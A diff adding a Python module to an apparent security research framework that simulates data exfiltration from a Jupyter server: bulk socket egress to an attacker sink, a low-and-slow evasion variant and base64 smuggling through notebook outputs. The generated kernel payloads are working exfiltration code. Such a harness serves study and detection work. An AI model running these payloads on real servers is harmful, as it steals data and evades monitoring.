@@ -1,0 +1,190 @@
+"""Data exfiltration (taxonomy: data exfiltration → exposed data).
+
+Three techniques:
+
+- :class:`ExfiltrationAttack` — bulk: read artifacts in the kernel,
+  stream them to the attacker's sink in one burst.  Loud on the wire.
+- :class:`LowAndSlowExfiltration` — the evasion variant from §IV.A:
+  the same bytes leave in rate-shaped chunks over a long horizon,
+  staying under windowed-volume thresholds.
+- :class:`OutputSmugglingAttack` — no attacker connection at all: the
+  data rides *back through Jupyter's own iopub channel* as oversized
+  base64 execute_results, indistinguishable from plots to a naive flow
+  monitor.
+"""
+
+from __future__ import annotations
+
+import base64
+from typing import List, Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.taxonomy.oscrp import Avenue, Concern
+
+
+def _read_and_send_code(paths: List[str], sink_ip: str, sink_port: int,
+                        *, chunk: int = 0) -> str:
+    """Kernel payload: read files, optionally chunk, send to the sink."""
+    lines = [
+        "import socket",
+        "s = socket.socket()",
+        f"s.connect(('{sink_ip}', {sink_port}))",
+        "total = 0",
+    ]
+    for path in paths:
+        lines.append(f"data = open('/{path}', 'rb').read()")
+        if chunk > 0:
+            lines += [
+                f"for i in range(0, len(data), {chunk}):",
+                f"    total += s.send(data[i:i + {chunk}])",
+            ]
+        else:
+            lines.append("total += s.send(data)")
+    lines.append("total")
+    return "\n".join(lines)
+
+
+class ExfiltrationAttack(Attack):
+    """Bulk exfiltration of research artifacts."""
+
+    name = "data-exfiltration"
+    avenue = Avenue.DATA_EXFILTRATION
+    technique = "bulk-egress"
+
+    def __init__(self, *, targets: List[str] | None = None):
+        self.targets = targets
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.user_client(username="attacker-via-stolen-session")
+        scenario.audited_session(client)
+        root = scenario.server.config.root_dir
+        targets = self.targets or [
+            p for p in scenario.server.fs.walk(root)
+            if p.endswith((".bin", ".csv")) and ".ipynb_checkpoints" not in p
+        ]
+        total_size = sum(len(scenario.server.fs.read(p)) for p in targets)
+        code = _read_and_send_code(targets, scenario.exfil_sink.host.ip,
+                                   scenario.exfil_sink.port)
+        reply = client.execute(code, wait=120.0)
+        scenario.run(5.0)  # let in-flight bytes land
+        received = scenario.exfil_sink.total_bytes()
+        concerns: Set[Concern] = set()
+        if received > 0:
+            concerns.add(Concern.EXPOSED_DATA)
+        return self._result(
+            success=received >= total_size and total_size > 0,
+            concerns=concerns,
+            narrative=f"exfiltrated {received}/{total_size} bytes in bulk",
+            bytes_exfiltrated=received,
+            bytes_targeted=total_size,
+            files=len(targets),
+            status=(reply.content.get("status") if reply else "no-reply"),
+        )
+
+
+class LowAndSlowExfiltration(Attack):
+    """Rate-shaped exfiltration under the volume threshold (paper §IV.A)."""
+
+    name = "low-and-slow-exfiltration"
+    avenue = Avenue.DATA_EXFILTRATION
+    technique = "low-and-slow-egress"
+
+    def __init__(self, *, bytes_per_burst: int = 800, interval_seconds: float = 15.0,
+                 total_bytes: int = 60_000, jitter: float = 0.0):
+        self.bytes_per_burst = bytes_per_burst
+        self.interval_seconds = interval_seconds
+        self.total_bytes = total_bytes
+        self.jitter = jitter
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.user_client(username="attacker-via-stolen-session")
+        scenario.audited_session(client)
+        sink_ip = scenario.exfil_sink.host.ip
+        sink_port = scenario.exfil_sink.port
+        # Stage the target into kernel memory once, then drip it out.
+        root = scenario.server.config.root_dir
+        target = next(p for p in scenario.server.fs.walk(root) if p.endswith(".bin"))
+        setup = (
+            "import socket\n"
+            f"data = open('/{target}', 'rb').read()\n"
+            f"while len(data) < {self.total_bytes}:\n"
+            "    data = data + data\n"
+            f"data = data[:{self.total_bytes}]\n"
+            "s = socket.socket()\n"
+            f"s.connect(('{sink_ip}', {sink_port}))\n"
+            "sent = 0"
+        )
+        reply = client.execute(setup, wait=60.0)
+        if reply is None or reply.content.get("status") != "ok":
+            return self._result(success=False, narrative="staging failed")
+        bursts = self.total_bytes // self.bytes_per_burst
+        rng = scenario.rng.child("lowslow")
+        for i in range(bursts):
+            burst = (
+                f"chunk = data[sent:sent + {self.bytes_per_burst}]\n"
+                "sent += s.send(chunk)"
+            )
+            client.execute(burst, wait=30.0)
+            gap = self.interval_seconds
+            if self.jitter > 0:
+                gap = max(0.5, gap + rng.uniform(-self.jitter, self.jitter))
+            scenario.run(gap)
+        scenario.run(5.0)
+        received = scenario.exfil_sink.total_bytes()
+        concerns: Set[Concern] = set()
+        if received > 0:
+            concerns.add(Concern.EXPOSED_DATA)
+        return self._result(
+            success=received >= self.total_bytes,
+            concerns=concerns,
+            narrative=(f"dripped {received} bytes at {self.bytes_per_burst}B/"
+                       f"{self.interval_seconds}s"),
+            bytes_exfiltrated=received,
+            bursts=bursts,
+            effective_rate=self.bytes_per_burst / self.interval_seconds,
+        )
+
+
+class OutputSmugglingAttack(Attack):
+    """Exfiltration through notebook outputs — data leaves via iopub."""
+
+    name = "output-smuggling"
+    avenue = Avenue.DATA_EXFILTRATION
+    technique = "output-channel-smuggling"
+
+    def __init__(self, *, target_suffix: str = ".bin"):
+        self.target_suffix = target_suffix
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.user_client(username="attacker-via-stolen-session")
+        scenario.audited_session(client)
+        root = scenario.server.config.root_dir
+        target = next((p for p in scenario.server.fs.walk(root)
+                       if p.endswith(self.target_suffix)), None)
+        if target is None:
+            return self._result(success=False, narrative="no target found")
+        code = (
+            "import base64\n"
+            f"raw = open('/{target}', 'rb').read()\n"
+            "base64.b64encode(raw).decode()"
+        )
+        reply = client.execute(code, wait=60.0)
+        results = [m for m in client.iopub if m.msg_type == "execute_result"]
+        smuggled = b""
+        if results:
+            text = results[-1].content["data"]["text/plain"]
+            try:
+                smuggled = base64.b64decode(text.strip("'\""))
+            except Exception:
+                smuggled = b""
+        original = scenario.server.fs.read(target)
+        ok = smuggled == original
+        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if ok else set()
+        return self._result(
+            success=ok,
+            concerns=concerns,
+            narrative=f"smuggled {len(smuggled)} bytes through execute_result",
+            bytes_exfiltrated=len(smuggled),
+            target=target,
+        )
